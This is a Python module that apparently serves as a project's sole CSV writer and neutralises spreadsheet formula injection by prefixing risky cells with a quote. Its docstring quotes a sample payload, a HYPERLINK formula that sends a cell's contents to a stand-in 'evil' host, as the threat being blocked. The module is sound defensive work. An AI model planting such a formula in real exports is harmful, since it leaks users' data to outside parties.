"""The one CSV writer of listguard: every CSV the system writes goes through this module.

A spreadsheet evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and one
that starts with a tab or a carriage return can turn into one once trimmed. A contact file is the
customer's (or an attacker's) text: ``=HYPERLINK("http://evil/?x="&A2,"x")`` or ``=1+1@example.com``
(a valid address) must not run when a report or an export is opened. So any cell, in any column, that
starts with one of those characters is written with a single quote in front, as OWASP recommends
("CSV Injection"): spreadsheets show it as text. Every other cell is written exactly as
``csv.writer`` writes it (minimal quoting, ``\\r\\n`` line ends, RFC 4180).

Two ways in:

- ``CsvWriter(out, columns, delimiter=",")``: the general writer (a header, then rows of any number
  of cells of any type, ``None`` as an empty cell). Use it for exports and clean lists.
- ``safe_column`` and ``join_rows``: the fast path for large reports built column by column (the
  per-row verification report); C-level work per cell, no Python code per row in the common case.
"""

from __future__ import annotations

import csv
import functools
import re
from collections.abc import Callable, Iterable, Iterator, Sequence
from typing import Protocol

#: The separators a CSV of listguard may use (the ones the reader accepts).
DELIMITERS = (",", ";", "\t", "|")
#: csv.writer's line end, and RFC 4180's.
LINE_END = "\r\n"
#: A cell that starts with one of these is a formula to a spreadsheet (or becomes one once trimmed).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: What is written in front of such a cell.
FORMULA_GUARD = "'"


class TextOut(Protocol):
    """What the writer needs of a file: a text file opened with ``newline=""``, or a StringIO."""

    def write(self, text: str, /) -> int: ...


def neutralise(cell: str) -> str:
    """The cell's text as a spreadsheet will show it, never run it (before CSV quoting)."""
    return FORMULA_GUARD + cell if cell.startswith(FORMULA_STARTS) else cell


def _check_delimiter(delimiter: str) -> None:
    if delimiter not in DELIMITERS:
        raise ValueError(
            f"unsupported CSV delimiter {delimiter!r}: use one of {', '.join(map(repr, DELIMITERS))}"
        )


class CsvWriter:
    """Writes a header, then rows: formula-safe, otherwise exactly as ``csv.writer``.

    Cells may be of any type: ``None`` is an empty cell, anything else is written as ``str(cell)``
    (what ``csv.writer`` does). A row may have any number of cells.
    """

    def __init__(self, out: TextOut, columns: Sequence[object], *, delimiter: str = ",") -> None:
        _check_delimiter(delimiter)
        self._writer = csv.writer(out, delimiter=delimiter, lineterminator=LINE_END)
        self.write_row(columns)

    def write_row(self, row: Iterable[object]) -> None:
        self._writer.writerow([_safe_text(cell) for cell in row])

    def write_rows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.write_row(row)


def _safe_text(cell: object) -> str:
    text = "" if cell is None else cell if isinstance(cell, str) else str(cell)
    return neutralise(text)


def write_csv(
    out: TextOut, columns: Sequence[object], rows: Iterable[Iterable[object]], *, delimiter: str = ","
) -> None:
    """A whole CSV in one call: the header ``columns``, then ``rows``."""
    CsvWriter(out, columns, delimiter=delimiter).write_rows(rows)


# -- the fast column path --------------------------------------------------------------------------


def safe_column(values: list[str], *, delimiter: str = ",", repeats: bool = False) -> Iterable[str]:
    """The cells of one column of text, each as ``CsvWriter`` writes it (formula-safe, quoted if need be).

    The work is C-level passes over the whole column: a few searches prove that no cell needs
    anything (then ``values`` itself is the answer), or find the few cells that do, which alone are
    rewritten. ``repeats``: the column holds few distinct values (reasons); each is worked out once.
    """
    _check_delimiter(delimiter)
    text = "".join(values)
    quotes = delimiter in text or '"' in text or "\n" in text or "\r" in text
    # No formula character anywhere in the column (one memchr each): none can start a cell.
    formulas = "=" in text or "+" in text or "-" in text or "@" in text or "\t" in text
    if not quotes and not formulas:
        return values
    field = _field_writer(delimiter, repeats)
    if "\n" in text:  # a cell holds a line break (rare): do every cell
        return map(field, values)
    # Mostly empty cells (reasons, suggestions): search the filled ones only.
    searched = list(filter(None, values)) if len(text) <= _SPARSE_CHARS_PER_CELL * len(values) else values
    suspects = _suspects(values, searched, delimiter, formulas, quotes)
    if not suspects:
        return values
    cells = values.copy()
    for index in suspects:
        cells[index] = field(values[index])
    return cells


def _suspects(
    values: list[str], searched: list[str], delimiter: str, formulas: bool, quotes: bool
) -> list[int]:
    """The cells of ``values`` (none holds a line break) that start with a formula character or need
    quotes. ``searched``: ``values``, or the cells of it that may (in order).

    Searched in the cells' text, one a line: C-level searches, and Python work per hit only.
    """
    lines = "\n" + "\n".join(searched)
    positions = [match.start() + 1 for match in _FORMULA_START.finditer(lines)] if formulas else []
    if quotes:
        for char in (delimiter, '"', "\r"):
            positions.extend(_first_in_each_line(char, lines))
    # The cell of each hit, in order. Its number: the next cell, from the last one found, that holds
    # the same text (``list.index``, C-level); a cell of the same text before it would be a hit too.
    cells: list[int] = []
    index = 0
    for start in sorted({lines.rfind("\n", 0, position) + 1 for position in positions}):
        end = lines.find("\n", start)
        index = values.index(lines[start : end if end >= 0 else len(lines)], index)
        cells.append(index)
        index += 1
    return cells


#: Under this many characters a cell on average, a column is sparse: most of its cells are empty.
_SPARSE_CHARS_PER_CELL = 4
# A line break (the start of a cell) followed by a formula character; "\r" needs quotes anyway.
_FORMULA_START = re.compile("\n[-=+@\t]")


def _first_in_each_line(char: str, text: str) -> Iterator[int]:
    """The position of ``char`` in each line of ``text`` that holds it (its first one there)."""
    position = text.find(char)
    while position >= 0:
        yield position
        line_end = text.find("\n", position)
        position = text.find(char, line_end) if line_end >= 0 else -1


@functools.cache
def _field_writer(delimiter: str, repeats: bool) -> Callable[[str], str]:
    def field(value: str) -> str:
        if value.startswith(FORMULA_STARTS):
            value = FORMULA_GUARD + value
        if delimiter in value or '"' in value or "\n" in value or "\r" in value:
            return '"' + value.replace('"', '""') + '"'
        return value

    # Cache hits stay in C (lru_cache's wrapper): no Python frame per repeated value.
    return functools.lru_cache(maxsize=1 << 16)(field) if repeats else field


def join_rows(columns: Sequence[Iterable[str]], *, delimiter: str = ",") -> str:
    """CSV text of rows whose cells are ready (from ``safe_column``), the columns given side by side.

    The cells are joined by C-level calls only (``zip``, ``map``, ``str.join``). A cell that is not
    from ``safe_column`` must be known safe: digits, or words of lower-case letters and ``_``.
    Two columns at least (a row of one empty cell would need quotes: write it with ``CsvWriter``).
    """
    _check_delimiter(delimiter)
    if len(columns) < 2:
        raise ValueError("join_rows writes rows of two columns or more; use CsvWriter for one column")
    lines = map(delimiter.join, zip(*columns, strict=True))
    text = LINE_END.join(lines)
    return text + LINE_END if text else text


__all__ = [
    "DELIMITERS",
    "FORMULA_GUARD",
    "FORMULA_STARTS",
    "LINE_END",
    "CsvWriter",
    "join_rows",
    "neutralise",
    "safe_column",
    "write_csv",
]
